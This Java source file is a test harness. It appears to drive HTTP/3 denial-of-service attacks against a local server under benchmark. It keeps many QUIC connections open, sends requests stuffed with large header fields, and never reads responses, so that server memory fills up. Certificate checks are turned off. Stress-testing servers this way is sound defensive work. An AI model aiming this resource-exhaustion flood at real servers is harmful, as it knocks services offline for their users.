package weir.testing;

import io.netty.bootstrap.Bootstrap;
import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import io.netty.channel.Channel;
import io.netty.channel.ChannelHandlerContext;
import io.netty.channel.ChannelInboundHandlerAdapter;
import io.netty.channel.MultiThreadIoEventLoopGroup;
import io.netty.channel.nio.NioIoHandler;
import io.netty.channel.socket.nio.NioDatagramChannel;
import io.netty.handler.codec.http3.Http3;
import io.netty.handler.codec.quic.QuicChannel;
import io.netty.handler.codec.quic.QuicSslContext;
import io.netty.handler.codec.quic.QuicSslContextBuilder;
import io.netty.handler.codec.quic.QuicStreamChannel;
import io.netty.handler.codec.quic.QuicStreamType;
import io.netty.handler.ssl.util.InsecureTrustManagerFactory;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.TimeoutException;

/**
 * Many HTTP/3 connections whose requests are answered by more than their client takes: the program behind the HTTP/3
 * attacks of {@code bench/harness/attacks.py}. Confined to one thread and its event loop's.
 */
public final class Http3Attack {
    private static final int FIELD = 3900;
    private static final long CONNECTION_WINDOW = 1L << 30;

    private final InetSocketAddress server;
    private final String path;
    private final int streams;
    private final int fields;
    private final Bootstrap sockets;

    private Http3Attack(
            InetSocketAddress server,
            String path,
            int streams,
            int fields,
            long window,
            MultiThreadIoEventLoopGroup group) {
        this.server = server;
        this.path = path;
        this.streams = streams;
        this.fields = fields;
        QuicSslContext tls = QuicSslContextBuilder.forClient()
                .trustManager(InsecureTrustManagerFactory.INSTANCE)
                .applicationProtocols(Http3.supportedApplicationProtocols())
                .build();
        sockets = new Bootstrap()
                .group(group)
                .channel(NioDatagramChannel.class)
                .handler(Http3.newQuicClientCodecBuilder()
                        .sslEngineProvider(channel -> tls.newEngine(channel.alloc(), "a.test", server.getPort()))
                        .maxIdleTimeout(60, TimeUnit.SECONDS)
                        .initialMaxData(CONNECTION_WINDOW)
                        .initialMaxStreamDataBidirectionalLocal(window)
                        .initialMaxStreamDataUnidirectional(65_536)
                        .initialMaxStreamsUnidirectional(16)
                        .build());
    }

    /**
     * Arguments: host, port, path, connections, streams of each, fields of 3.9 KB in each head, bytes that a stream may be
     * sent, seconds. Prints how many connections it opened.
     */
    public static void main(String[] arguments) throws InterruptedException {
        int connections = Integer.parseInt(arguments[3]);
        MultiThreadIoEventLoopGroup group = new MultiThreadIoEventLoopGroup(1, NioIoHandler.newFactory());
        Http3Attack attack = new Http3Attack(
                new InetSocketAddress(arguments[0], Integer.parseInt(arguments[1])),
                arguments[2],
                Integer.parseInt(arguments[4]),
                Integer.parseInt(arguments[5]),
                Long.parseLong(arguments[6]),
                group);
        attack.hold(connections, System.nanoTime() + TimeUnit.SECONDS.toNanos(Long.parseLong(arguments[7])));
        group.shutdownGracefully(0, 1, TimeUnit.SECONDS);
        System.exit(0);
    }

    /** Keeps so many connections open until then: a new one for each that was closed. */
    private void hold(int connections, long end) throws InterruptedException {
        List<QuicChannel> open = new ArrayList<>();
        int opened = 0;
        int failed = 0;
        while (System.nanoTime() < end) {
            while (open.size() < connections && System.nanoTime() < end) {
                try {
                    open.add(connect(1 + opened % 50));
                    opened++;
                } catch (IOException e) {
                    failed++;
                    Thread.sleep(20);
                }
            }
            Thread.sleep(200);
            open.removeIf(connection -> !connection.isOpen());
        }
        System.out.println(opened + " connections, " + failed + " failed, " + open.size() + " open");
        System.out.flush();
    }

    private QuicChannel connect(int address) throws IOException, InterruptedException {
        Channel socket = sockets.bind(new InetSocketAddress("127.0.36." + address, 0))
                .sync()
                .channel();
        try {
            QuicChannel connection = QuicChannel.newBootstrap(socket)
                    .handler(new Quiet())
                    .streamHandler(new Quiet())
                    .remoteAddress(server)
                    .connect()
                    .get(2, TimeUnit.SECONDS);
            connection.closeFuture().addListener(closed -> socket.close());
            stream(connection, QuicStreamType.UNIDIRECTIONAL)
                    .writeAndFlush(Unpooled.wrappedBuffer(new byte[] {0, 4, 0}));
            for (int i = 0; i < streams && connection.isOpen(); i++) {
                QuicStreamChannel stream = stream(connection, QuicStreamType.BIDIRECTIONAL);
                stream.writeAndFlush(request()).addListener(QuicStreamChannel.SHUTDOWN_OUTPUT);
            }
            return connection;
        } catch (ExecutionException | TimeoutException e) {
            socket.close();
            throw new IOException(e);
        }
    }

    private static QuicStreamChannel stream(QuicChannel connection, QuicStreamType type)
            throws ExecutionException, InterruptedException, TimeoutException {
        return connection.createStream(type, new Quiet()).get(2, TimeUnit.SECONDS);
    }

    /** A HEADERS frame, its fields as QPACK writes them without a table (RFC 9204, section 4.5). */
    private ByteBuf request() {
        ByteBuf block = Unpooled.buffer().writeBytes(new byte[] {0, 0, (byte) 0xd1, (byte) 0xd7});
        text(block.writeByte(0x50), "a.test");
        text(block.writeByte(0x51), path);
        for (int i = 0; i < fields; i++) {
            text(block.writeByte(0x23).writeBytes(new byte[] {'x', '-', 'b'}), "v".repeat(FIELD));
        }
        return Unpooled.buffer()
                .writeByte(1)
                .writeInt(0x8000_0000 | block.readableBytes())
                .writeBytes(block);
    }

    private static void text(ByteBuf block, String value) {
        int length = value.length();
        if (length < 127) {
            block.writeByte(length);
        } else {
            block.writeByte(127);
            for (length -= 127; length >= 128; length >>= 7) {
                block.writeByte(length & 127 | 128);
            }
            block.writeByte(length);
        }
        block.writeCharSequence(value, StandardCharsets.US_ASCII);
    }

    /** Reads nothing of a stream whose window is open, so that no more is granted. */
    private static final class Quiet extends ChannelInboundHandlerAdapter {
        @Override
        public boolean isSharable() {
            return true;
        }

        @Override
        public void handlerAdded(ChannelHandlerContext ctx) {
            if (ctx.channel() instanceof QuicStreamChannel) {
                ctx.channel().config().setAutoRead(false);
            }
        }

        @Override
        public void exceptionCaught(ChannelHandlerContext ctx, Throwable cause) {
            ctx.close();
        }
    }
}
